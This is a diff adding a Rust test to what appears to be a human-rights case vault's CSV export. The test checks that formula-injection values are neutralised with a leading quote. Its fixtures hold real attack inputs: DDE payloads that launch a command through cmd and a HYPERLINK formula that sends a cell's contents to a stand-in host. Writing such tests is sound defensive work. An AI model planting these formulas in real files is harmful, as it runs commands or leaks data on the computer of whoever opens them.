@@ -360,6 +360,61 @@ fn csv_headers_are_the_huridocs_names_and_hard_text_round_trips() {
 }
 
 #[test]
+fn a_csv_cell_a_spreadsheet_would_run_is_neutralised_and_stays_readable() {
+    let (tmp, _d, mut vault) = new_vault();
+    // As a colleague's device could write them: a name, a title and a summary that a
+    // spreadsheet opening the export would run.
+    let hyperlink = r#"=HYPERLINK("https://example.org/?d="&B2,"Open file")"#;
+    let case = vault
+        .add(Record::Case(Case {
+            title: "+cmd|' /C calc'!A0".into(),
+            summary: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            tags: vec!["-2+3".into()],
+            owner: "\t=1+1".into(),
+            ..Case::default()
+        }))
+        .unwrap();
+    let mut p = person(case, hyperlink, vec![Role::Victim], GIVEN);
+    p.occupation = "'=already marked".into();
+    p.residence = "-33.9".into();
+    vault.add(Record::Person(p)).unwrap();
+    let out = tmp.path().join("csv");
+    export_csv(
+        &vault,
+        &Selection::all(),
+        &out,
+        &Protection::Plaintext,
+        &mut no_progress,
+    )
+    .unwrap();
+
+    let (h, cases) = read_csv(&out.join("cases.csv"));
+    let c = &cases[0];
+    assert_eq!(c[col(&h, "Case title")], "'+cmd|' /C calc'!A0");
+    assert_eq!(c[col(&h, "Summary")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(c[col(&h, "Tags")], "'-2+3");
+    assert_eq!(c[col(&h, "Owner")], "'\t=1+1");
+    let (h, persons) = read_csv(&out.join("persons.csv"));
+    let p = &persons[0];
+    // Readable: the value follows the mark unchanged.
+    assert_eq!(p[col(&h, "Name")], format!("'{hyperlink}"));
+    assert_eq!(p[col(&h, "Occupation")], "''=already marked");
+    // A plain number is not a formula: left as it is.
+    assert_eq!(p[col(&h, "Address")], "-33.9");
+    for name in ["cases.csv", "persons.csv", "involvements.csv", "acts.csv"] {
+        let (_, rows) = read_csv(&out.join(name));
+        for cell in rows.iter().flatten() {
+            let first = cell.chars().next();
+            assert!(
+                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
+                    && !(first == Some('-') && cell.parse::<f64>().is_err()),
+                "{name}: a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+}
+
+#[test]
 fn csv_of_selected_cases_leaves_other_cases_out() {
     let (tmp, _d, mut vault) = new_vault();
     let f = fill(&mut vault, tmp.path());
